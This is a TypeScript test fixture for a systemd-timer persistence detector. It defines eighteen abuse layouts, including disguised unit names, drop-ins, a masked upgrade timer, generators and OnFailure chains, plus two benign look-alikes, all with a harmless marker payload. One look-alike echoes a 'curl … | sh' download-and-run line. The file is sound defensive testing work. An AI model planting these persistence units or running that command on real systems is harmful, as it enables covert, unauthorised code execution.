import type { MemoryEntry } from "../../src/hosts/memory.ts";

/** One of the shapes that every peer is shown: files with harmless content, planted into a throw-away root. */
export interface PeerCase {
  readonly id: string;
  readonly title: string;
  /** False for the two look-alikes that must be left in peace. */
  readonly isAbuse: boolean;
  /** The activations it makes, as Timerwarden names them; empty where it changes or masks a vendor's. */
  readonly activations: readonly string[];
  /** Parts of paths and names that only this case has, to find it in a peer's output. */
  readonly marks: readonly string[];
  readonly files: Readonly<Record<string, MemoryEntry>>;
}

const SYSTEM = "/etc/systemd/system/";
const LOCAL = "/usr/local/lib/systemd/system/";
const CONFIG = "/home/alice/.config/systemd/user/";
const DATA = "/home/alice/.local/share/systemd/user/";
const MARKER = "/usr/bin/touch /tmp/tw-marker";
const MINUTE = "OnCalendar=*-*-* *:*:00";

function timer(description: string, settings: string): string {
  return `[Unit]\nDescription=${description}\n\n[Timer]\n${settings}\n\n[Install]\nWantedBy=timers.target\n`;
}

function service(description: string, settings: string): string {
  return `[Unit]\nDescription=${description}\n\n[Service]\nType=oneshot\n${settings}\n`;
}

interface PairOptions {
  readonly directory?: string;
  /** Where `timers.target.wants` lies; `null`: not enabled. */
  readonly enabledIn?: string | null;
  readonly timer?: string;
  readonly description?: string;
}

function pair(name: string, settings: string, options: PairOptions = {}): Record<string, MemoryEntry> {
  const { directory = SYSTEM, enabledIn = SYSTEM, description = name } = options;
  const link = enabledIn === null ? {} : enabled(enabledIn, name, `${directory}${name}.timer`);
  return {
    [`${directory}${name}.timer`]: timer(description, options.timer ?? MINUTE),
    [`${directory}${name}.service`]: service(description, settings),
    ...link,
  };
}

function enabled(directory: string, name: string, target: string): Record<string, MemoryEntry> {
  return { [`${directory}timers.target.wants/${name}.timer`]: { link: target } };
}

const EXEC = `ExecStart=${MARKER}`;
const RESOLVED = "dbus-org.freedesktop.resolved";
const TRANSIENT = "run-r0123456789abcdef";

/** Eighteen shapes of abuse and two look-alikes (ids as in the notes they come from). */
export const PEER_CASES: readonly PeerCase[] = [
  abuse("01", "plain pair in /etc, each minute", ["tw-plain"], pair("tw-plain", EXEC)),
  abuse(
    "02",
    "resolver-like name in /usr/local",
    [RESOLVED],
    pair(RESOLVED, EXEC, { directory: LOCAL, description: "Network Name Resolution" }),
  ),
  abuse(
    "03",
    "user unit in ~/.config",
    ["tw-user"],
    pair("tw-user", EXEC, { directory: CONFIG, enabledIn: CONFIG }),
    "user:alice",
  ),
  abuse(
    "04",
    "user unit in ~/.local/share",
    ["tw-data"],
    pair("tw-data", EXEC, { directory: DATA, enabledIn: CONFIG }),
    "user:alice",
  ),
  abuse("05", "transient pair", [TRANSIENT], {
    [`/run/systemd/transient/${TRANSIENT}.timer`]: "[Timer]\nOnCalendar=*:0/1\nRemainAfterElapse=no\n",
    [`/run/systemd/transient/${TRANSIENT}.service`]: `[Service]\nExecStart=\nExecStart="/usr/bin/touch" "/tmp/tw-marker"\n`,
  }),
  changed("06", "drop-in adds a command to apt-daily", "system/apt-daily.timer", ["apt-daily.service.d"], {
    [`${SYSTEM}apt-daily.service.d/10-local.conf`]: `[Service]\nExecStartPre=${MARKER}\n`,
  }),
  abuse("07", "Unit= names a service of another name", ["tw-log", "tw-payload"], {
    [`${SYSTEM}tw-log.timer`]: timer("tw-log", `${MINUTE}\nUnit=tw-payload.service`),
    [`${SYSTEM}tw-payload.service`]: service("tw-payload", EXEC),
    ...enabled(SYSTEM, "tw-log", `${SYSTEM}tw-log.timer`),
  }),
  changed("08", "mask on the upgrade timer", "system/apt-daily-upgrade.timer", ["apt-daily-upgrade.timer"], {
    [`${SYSTEM}apt-daily-upgrade.timer`]: { link: "/dev/null" },
  }),
  abuse("09", "names that begin with a dot", [".tw-hidden"], pair(".tw-hidden", EXEC)),
  abuse("10", "generator and what it made", ["tw-generated", "tw-gen"], {
    "/usr/local/lib/systemd/system-generators/tw-gen": { content: "#!/bin/sh\nexit 0\n", mode: 0o755 },
    ...pair("tw-generated", EXEC, { directory: "/run/systemd/generator.late/", enabledIn: null }),
  }),
  abuse("11", "template instance by a link", ["tw-tpl@one", "tw-tpl@"], {
    [`${SYSTEM}tw-tpl@.timer`]: timer("tw-tpl %i", MINUTE),
    [`${SYSTEM}tw-tpl@.service`]: service("tw-tpl %i", `${EXEC}-%i`),
    ...enabled(SYSTEM, "tw-tpl@one", `${SYSTEM}tw-tpl@.timer`),
  }),
  abuse(
    "12",
    "units for every user",
    ["tw-share", "tw-lshare"],
    {
      ...pair("tw-share", EXEC, { directory: "/usr/share/systemd/user/", enabledIn: null }),
      ...pair("tw-lshare", EXEC, { directory: "/usr/local/share/systemd/user/", enabledIn: null }),
    },
    "global-user",
  ),
  {
    ...abuse("13", "property file and attached unit", ["tw-attached"], {
      ...pair("tw-attached", EXEC, { directory: "/etc/systemd/system.attached/", enabledIn: null }),
      "/etc/systemd/system.control/apt-daily.timer.d/50-OnCalendar.conf":
        "[Timer]\nOnCalendar=\nOnCalendar=*:0/1\n",
    }),
    marks: ["tw-attached", "50-OnCalendar.conf"],
  },
  abuse(
    "14",
    "the work is in ExecStopPost",
    ["tw-stop"],
    pair("tw-stop", `ExecStart=/bin/true\nExecStopPost=${MARKER}`),
  ),
  abuse(
    "15",
    "one letter off a vendor's name",
    ["systemd-tmpfiles-c1ean"],
    pair("systemd-tmpfiles-c1ean", EXEC, { description: "Daily Cleanup of Temporary Directories" }),
  ),
  abuse("16", "hidden program in /dev/shm", ["tw-shm"], pair("tw-shm", "ExecStart=/dev/shm/.tw-marker")),
  {
    id: "17",
    title: "look-alike: echo of a text about fetching",
    isAbuse: false,
    activations: ["system/tw-echo.timer"],
    marks: ["tw-echo"],
    files: pair("tw-echo", "ExecStart=/usr/bin/echo 'docs: never run curl http://192.0.2.1/x | sh'"),
  },
  abuse("18", "designed failure with OnFailure=", ["tw-chain", "tw-onfail"], {
    [`${SYSTEM}tw-chain.timer`]: timer("tw-chain", MINUTE),
    [`${SYSTEM}tw-chain.service`]:
      "[Unit]\nOnFailure=tw-onfail.service\n\n[Service]\nType=oneshot\nExecStart=/bin/false\n",
    [`${SYSTEM}tw-onfail.service`]: service("tw-onfail", EXEC),
    ...enabled(SYSTEM, "tw-chain", `${SYSTEM}tw-chain.timer`),
  }),
  {
    id: "19",
    title: "look-alike: the admin's backup with a health ping",
    isAbuse: false,
    activations: ["system/tw-backup.timer"],
    marks: ["tw-backup"],
    files: {
      ...pair("tw-backup", "ExecStart=/usr/local/bin/tw-backup.sh", {
        timer: "OnCalendar=daily\nRandomizedDelaySec=1h\nPersistent=true",
        description: "Nightly backup",
      }),
      "/usr/local/bin/tw-backup.sh": {
        content:
          "#!/bin/sh\n# nightly backup\ntar -cf /var/backups/tw.tar /etc >/dev/null 2>&1\ncurl -fsS -m 10 https://hc.example.test/ping/1 >/dev/null\n",
        mode: 0o755,
      },
    },
  },
  abuse("20", "the command is in an environment file", ["tw-env"], {
    "/etc/default/tw-env": 'TW_CMD="/usr/bin/touch /tmp/tw-marker"\n',
    ...pair("tw-env", 'EnvironmentFile=/etc/default/tw-env\nExecStart=/bin/sh -c "$TW_CMD"'),
  }),
];

function abuse(
  id: string,
  title: string,
  marks: readonly string[],
  files: Record<string, MemoryEntry>,
  scope = "system",
): PeerCase {
  const activations = marks
    .filter((mark) => Object.keys(files).some((path) => path.endsWith(`/${mark}.timer`)))
    .map((mark) => `${scope}/${mark}.timer`);
  return { id, title, isAbuse: true, activations, marks, files };
}

/** A case that changes a unit the vendor ships. */
function changed(
  id: string,
  title: string,
  activation: string,
  marks: readonly string[],
  files: Record<string, MemoryEntry>,
): PeerCase {
  return { id, title, isAbuse: true, activations: [activation], marks, files };
}
